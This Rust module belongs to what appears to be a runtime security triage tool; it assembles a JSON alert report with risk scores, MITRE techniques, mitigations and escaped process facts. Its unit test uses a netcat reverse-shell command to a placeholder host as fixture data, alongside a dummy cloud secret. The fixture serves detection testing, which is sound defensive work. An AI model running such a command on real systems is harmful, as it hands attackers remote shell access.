//! The `triage.report` JSON object. Attacker text is escaped and bounded; the environment is
//! never copied (it holds secrets), only counted.

use super::{escape, Evidence, Rendered};
use crate::analysis::{Lineage, Verdict};
use crate::facts::{ExeFlags, ExecFacts};
use crate::knowledge::ATTACK_VERSION;
use serde::Serialize;
use serde_json::Value;

const MAX_ARG: usize = 256;
const MAX_ARGS: usize = 64;

pub fn exe_flag_names(bits: u32) -> Vec<&'static str> {
    [
        (ExeFlags::WRITABLE, "EXE_WRITABLE"),
        (ExeFlags::UPPER_LAYER, "EXE_UPPER_LAYER"),
        (ExeFlags::FROM_MEMFD, "EXE_FROM_MEMFD"),
        (ExeFlags::LOWER_LAYER, "EXE_LOWER_LAYER"),
    ]
    .iter()
    .filter(|(b, _)| bits & b != 0)
    .map(|(_, n)| *n)
    .collect()
}

/// The report, borrowed from the verdict where it can be; serialised directly to text for
/// the plugin (no intermediate `serde_json::Value` tree) or to a `Value` for `enrich`.
#[derive(Serialize)]
pub struct Report<'a> {
    risk: u8,
    severity: &'static str,
    category: &'static str,
    summary: &'a str,
    test_activity: bool,
    signals: Vec<SignalJson>,
    mitre: Mitre,
    mitigations: Vec<MitigationJson>,
    evidence: &'a Evidence,
    facts: FactsJson,
    lineage: Vec<AncestorJson>,
    lineage_known: bool,
}

#[derive(Serialize)]
struct SignalJson {
    id: &'static str,
    title: &'static str,
    level: &'static str,
    weight: u8,
    category: &'static str,
    evidence: String,
}

#[derive(Serialize)]
struct IdName {
    id: &'static str,
    name: &'static str,
}

#[derive(Serialize)]
struct Mitre {
    techniques: Vec<IdName>,
    tactics: Vec<IdName>,
    attack_version: &'static str,
}

#[derive(Serialize)]
struct MitigationJson {
    id: &'static str,
    text: &'static str,
    docker: Option<&'static str>,
    kubernetes: Option<&'static str>,
    source: &'static str,
}

#[derive(Serialize)]
struct FactsJson {
    argv: Vec<String>,
    argv_truncated: bool,
    exe_path: Option<String>,
    comm: Option<String>,
    cwd: Option<String>,
    uid: Option<u32>,
    gid: Option<u32>,
    loginuid: Option<i64>,
    tty: Option<u32>,
    res: Option<i64>,
    exe_flags: Option<Vec<&'static str>>,
    container: Option<ContainerJson>,
    cap_effective: Option<String>,
    env_count: usize,
}

#[derive(Serialize)]
struct ContainerJson {
    id: String,
    runtime: &'static str,
}

#[derive(Serialize)]
struct AncestorJson {
    comm: String,
    exe: Option<String>,
}

impl<'a> Report<'a> {
    pub fn new(
        facts: &'a ExecFacts,
        lineage: &'a Lineage,
        v: &'a Verdict,
        text: &'a Rendered,
    ) -> Self {
        let esc = |s: &str| escape(s, MAX_ARG);
        Report {
            risk: v.risk,
            severity: v.severity.as_str(),
            category: v.category,
            summary: &text.summary,
            test_activity: v.test_activity,
            signals: v
                .hits
                .iter()
                .map(|h| SignalJson {
                    id: h.signal.id,
                    title: h.signal.title,
                    level: h.signal.level,
                    weight: h.signal.weight,
                    category: h.signal.category,
                    evidence: escape(&h.evidence, 240),
                })
                .collect(),
            mitre: Mitre {
                techniques: v
                    .techniques
                    .iter()
                    .map(|t| IdName {
                        id: t.id,
                        name: t.name,
                    })
                    .collect(),
                tactics: v
                    .tactics
                    .iter()
                    .map(|t| IdName {
                        id: t.id,
                        name: t.name,
                    })
                    .collect(),
                attack_version: ATTACK_VERSION,
            },
            mitigations: v
                .mitigations
                .iter()
                .map(|m| MitigationJson {
                    id: m.id,
                    text: m.text,
                    docker: m.docker,
                    kubernetes: m.kubernetes,
                    source: m.source,
                })
                .collect(),
            evidence: &text.evidence,
            facts: FactsJson {
                argv: facts.argv.iter().take(MAX_ARGS).map(|a| esc(a)).collect(),
                argv_truncated: facts.argv_truncated || facts.argv.len() > MAX_ARGS,
                exe_path: facts.exe_path.as_deref().map(esc),
                comm: facts.comm.as_deref().map(esc),
                cwd: facts.cwd.as_deref().map(esc),
                uid: facts.uid,
                gid: facts.gid,
                loginuid: facts
                    .loginuid
                    .map(|l| if l == u32::MAX { -1 } else { i64::from(l) }),
                tty: facts.tty,
                res: facts.res,
                exe_flags: facts.exe_flags.map(|f| exe_flag_names(f.0)),
                container: facts.container.as_ref().map(|c| ContainerJson {
                    id: esc(&c.short_id),
                    runtime: c.runtime.as_str(),
                }),
                cap_effective: facts.caps.effective.map(|c| format!("{c:#x}")),
                env_count: facts.env.len(),
            },
            lineage: lineage
                .ancestors
                .iter()
                .take(16)
                .map(|a| AncestorJson {
                    comm: esc(&a.comm),
                    exe: a.exe.as_deref().map(esc),
                })
                .collect(),
            lineage_known: lineage.known,
        }
    }
}

/// The report as a JSON value (for `enrich`, which nests it in an alert).
pub fn render(facts: &ExecFacts, lineage: &Lineage, v: &Verdict, text: &Rendered) -> Value {
    // Serialising these types cannot fail: every map key is a string.
    serde_json::to_value(Report::new(facts, lineage, v, text)).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use crate::analysis::{analyze, Lineage};
    use crate::facts::{ContainerInfo, ContainerRuntime, ExeFlags, ExecFacts};

    #[test]
    fn seed_report_has_the_contract_keys_and_true_hints() {
        let f = ExecFacts {
            argv: ["nc", "-e", "/bin/sh", "example.com", "22"]
                .iter()
                .map(|s| s.to_string())
                .collect(),
            exe_path: Some("/usr/bin/nc.openbsd".into()),
            uid: Some(0),
            res: Some(0),
            exe_flags: Some(ExeFlags(ExeFlags::WRITABLE | ExeFlags::LOWER_LAYER)),
            container: Some(ContainerInfo {
                runtime: ContainerRuntime::Docker,
                short_id: "1d45a96b1daa".into(),
            }),
            env: vec!["AWS_SECRET_ACCESS_KEY=hunter2".into()],
            cgroups_present: true,
            ..Default::default()
        };
        let l = Lineage::from_comms(["event-generator"]);
        let v = analyze(&f, &l);
        let j = super::render(&f, &l, &v, &crate::report::render(&f, &l, &v));
        for k in [
            "risk",
            "severity",
            "category",
            "signals",
            "mitre",
            "summary",
            "mitigations",
            "evidence",
            "test_activity",
            "facts",
            "lineage",
        ] {
            assert!(j.get(k).is_some(), "missing {k}");
        }
        assert_eq!(j["test_activity"], true);
        assert_eq!(j["mitre"]["attack_version"], "16.1");
        assert_eq!(j["mitigations"][0]["id"], "allowlist_test_activity");
        assert!(j["facts"]["exe_flags"]
            .as_array()
            .is_some_and(|a| a.len() == 2));
        let text = j.to_string();
        assert!(!text.contains("hunter2"), "env must not leak");
        for bad in [
            "--securityOpt",
            "--netcat-opt",
            "--security-opt noexec",
            "--security-opt nosuid",
        ] {
            assert!(!text.contains(bad));
        }
        assert!(
            v.risk < 50,
            "test activity stays below Warning, got {}",
            v.risk
        );
        assert!(v.techniques.iter().any(|t| t.id == "T1059.004"));
    }
}
